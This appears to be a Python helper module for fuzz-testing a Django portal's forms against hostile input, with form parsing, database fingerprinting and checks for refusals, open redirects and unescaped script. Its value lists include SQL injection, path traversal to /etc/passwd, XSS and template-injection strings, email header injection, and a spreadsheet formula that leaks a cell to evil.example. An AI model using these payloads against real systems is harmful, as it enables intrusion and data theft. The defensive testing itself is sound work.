"""What an attacker types, and how to tell a refusal from an acceptance: helpers for the hostile-input tests."""

import functools
import hashlib
import os
import re
import traceback
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.apps import apps
from django.conf import settings
from django.db import connection
from django.contrib import messages
from hypothesis import example
from hypothesis import strategies as st


# --- hostile values ---------------------------------------------------------------------------------------------

NUMBERS = ["99999999999999999999", "123456789012345", str(10**20), "-1", "0", "1e30", "-1e30", "NaN", "nan",
           "Infinity", "-Infinity", "sNaN", "1.5", "1,5", "0x10", "١٢٣"]
WRONG_TYPES = ["", " ", "abc", "None", "null", "true", "[]", "{}", "1; DROP TABLE x", "../../etc/passwd"]
CONTROL = ["\x00", "a\x00b", "\x01\x02\x1b[31m", "\r\n\r\n", "\t", "\u202e", "\ufeff", "\x7f\x85"]
MARKUP = ["<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "{{ 7*7 }}", "{% debug %}", "%(name)s %s",
          '=HYPERLINK("http://evil.example/?leak="&B2,"Open")', "+1-1", "@SUM(A1)"]
ADDRESSES = ["https://evil.example/", "//evil.example/", "javascript:alert(1)", "evil@example.com\nBcc: x@y.z",
             "a@b", "@", "x" * 300 + "@example.se"]
DATES = ["2026-02-30", "0000-00-00", "9999-12-31T23:59", "-1-01-01", "1-1-1", "2026-13-01T25:61"]
HUGE = ["x" * 10_000, "å" * 10_000, "word " * 2_000]

SCALARS = NUMBERS + WRONG_TYPES + CONTROL + MARKUP + ADDRESSES + DATES + HUGE
SCRIPT = MARKUP[0]

MISSING = object()  # the field is left out of the request


def hostile_value():
    """One field's hostile value: a scalar, the same field repeated with several values, or nothing at all."""
    scalar = st.sampled_from(SCALARS)
    return st.one_of(scalar, scalar, scalar, st.lists(scalar, min_size=2, max_size=3), st.just(MISSING))


def hostile_fields(fields):
    """One to three of ``fields``, each with a hostile value (or left out); the rest of the form stays plausible."""
    chosen = st.lists(st.sampled_from(fields), min_size=1, max_size=min(3, len(fields)), unique=True)
    return chosen.flatmap(lambda names: st.fixed_dictionaries({name: hostile_value() for name in names}))


BREAKERS = ["abc", "99999999999999999999", "a\x00b"]  # a wrong type, an overflow and a NUL byte: tried on every field


REDIRECT_FIELDS = {"next"}  # where a page is told where to go afterwards: also tried with another site


def each_field_broken(fields):
    """Explicit examples first: every field alone with each of the BREAKERS, whatever the random examples pick."""
    def decorate(test):
        for name in fields:
            for value in BREAKERS + (ADDRESSES[:2] if name in REDIRECT_FIELDS else []):
                test = example(hostile_input={name: value})(test)
        return test
    return decorate


def attacked(plausible, hostile):
    """The plausible form with the hostile fields put in, and those that are MISSING left out."""
    data = {**plausible, **hostile}
    return {name: value for name, value in data.items() if value is not MISSING}


def describe(hostile):
    """The hostile part of an input, short enough to read in a failure message."""
    def short(value):
        if value is MISSING:
            return "<missing>"
        if isinstance(value, list):
            return [short(item) for item in value]
        return value if len(value) <= 40 else f"{value[:12]!r}…({len(value)} chars)"
    return {field: short(value) for field, value in hostile.items()}


def fill_in(text, world):
    """``text`` with each ``{name}`` of the world replaced (a callable is asked now); other braces stay."""
    def value(match):
        found = world.get(match[1], match[0])
        return str(found() if callable(found) else found)
    return re.sub(r"\{(\w+)\}", value, text)


# --- the forms a page shows ---------------------------------------------------------------------------------------

class _Forms(HTMLParser):
    """The POST forms of a page as lists of (name, value) a browser would send (buttons left out)."""

    def __init__(self):
        super().__init__()
        self.forms, self.current, self.select, self.first_option, self.textarea = [], None, None, None, None

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if tag == "form" and (attrs.get("method") or "").lower() == "post":
            self.current = []
            self.forms.append(self.current)
        if self.current is None or "name" not in attrs and tag != "option":
            return
        kind = (attrs.get("type") or "text").lower()
        if tag == "input" and kind not in ("submit", "button", "reset", "image", "file"):
            if kind not in ("checkbox", "radio") or "checked" in attrs:
                self.current.append((attrs["name"], attrs.get("value", "on" if kind in ("checkbox", "radio") else "")))
        elif tag == "textarea":
            self.textarea = [attrs["name"], ""]
        elif tag == "select":
            self.select, self.first_option = attrs["name"], None
        elif tag == "option" and self.select:
            value = attrs.get("value", "")
            self.first_option = self.first_option if self.first_option is not None else value
            if "selected" in attrs:
                self.current.append((self.select, value))
                self.first_option = False

    def handle_data(self, data):
        if self.textarea:
            self.textarea[1] += data

    def handle_endtag(self, tag):
        if tag == "textarea" and self.textarea:
            self.current.append(tuple(self.textarea))
            self.textarea = None
        elif tag == "select" and self.select:
            if self.first_option not in (None, False):
                self.current.append((self.select, self.first_option))
            self.select = None
        elif tag == "form":
            self.current = None


def form_values(page, field):
    """What the page's form that has ``field`` would send unchanged (a repeated name gives a list); {} if none has."""
    parser = _Forms()
    parser.feed(page)
    for form in parser.forms:
        names = [name for name, _value in form]
        if field in names:
            values = {}
            for name, value in form:
                values[name] = [*values[name], value] if isinstance(values.get(name), list) else (
                    [values[name], value] if name in values else value)
            return values
    return {}


# --- what is stored -----------------------------------------------------------------------------------------------

STORED_APPS = ("fundportal", "calls", "applications", "review", "account")
NOT_STATE = {"last_login"}  # signing the test user in writes it
RECORDS_READINGS = {"fundportal.AuditEvent"}  # the audit trail: reading a page (an export, a confidential part) too


@functools.cache
def _table_queries():
    """One SELECT per model our apps store, of the columns that hold its state, in a stable order."""
    queries = {}
    for model in apps.get_models():
        if (model._meta.app_label in STORED_APPS and not model._meta.proxy
                and model._meta.label not in RECORDS_READINGS):
            columns = ", ".join(connection.ops.quote_name(field.column) for field in model._meta.concrete_fields
                                if field.attname not in NOT_STATE)
            table, key = connection.ops.quote_name(model._meta.db_table), connection.ops.quote_name(model._meta.pk.column)
            queries[model._meta.label] = f"SELECT {columns} FROM {table} ORDER BY {key}"
    return queries


def stored():
    """A fingerprint of every row our apps store, per model (so a difference names the table)."""
    fingerprint = {}
    with connection.cursor() as cursor:
        for label, query in _table_queries().items():
            cursor.execute(query)
            fingerprint[label] = hashlib.sha256(repr(cursor.fetchall()).encode()).hexdigest()
    return fingerprint


def changed_tables(before, after):
    return sorted(label for label in before if before[label] != after.get(label))


# --- the answer -------------------------------------------------------------------------------------------------

ERROR_MARKS = ("is-invalid", "invalid-feedback", "errorlist", "alert-danger")


def error_messages(response):
    """The messages the view queued at error or warning level (shown on the next page)."""
    storage = getattr(response.wsgi_request, "_messages", None)
    queued = getattr(storage, "_queued_messages", [])
    return [str(message) for message in queued if message.level >= messages.WARNING]


def is_html(response):
    return response.get("Content-Type", "").startswith("text/html")


def refused(response):
    """A 4xx, a page shown again with its errors, or a redirect that carries an error message."""
    if 400 <= response.status_code < 500:
        return True
    if response.status_code in (301, 302, 303):
        return bool(error_messages(response))
    if response.status_code == 200 and is_html(response):
        page = response.content.decode(errors="replace")
        return any(mark in page for mark in ERROR_MARKS) or bool(error_messages(response))
    return False


def leaves_the_site(response):
    """True when a redirect points at another host (an open redirect)."""
    target = urlsplit(response.get("Location", ""))
    return bool(target.scheme or target.netloc) and target.netloc not in ("testserver", "")


def unescaped_script(response):
    return is_html(response) and SCRIPT.encode() in response.content


# --- telling of a problem -----------------------------------------------------------------------------------------

REPORT = os.environ.get("HOSTILE_REPORT")  # a file: note every problem and go on, instead of failing at the first


def problem(message):
    if REPORT:
        with open(REPORT, "a", encoding="utf-8") as report:
            report.write(message.replace("\n", " ") + "\n")
        return
    pytest.fail(message, pytrace=False)


def where(error):
    """The innermost line of our own code the exception passed through."""
    ours = [frame for frame in traceback.extract_tb(error.__traceback__)
            if frame.filename.startswith(str(settings.BASE_DIR)) and "/.venv/" not in frame.filename
            and "/tests/" not in frame.filename]
    return f"{os.path.relpath(ours[-1].filename, settings.BASE_DIR)}:{ours[-1].lineno}" if ours else "?"
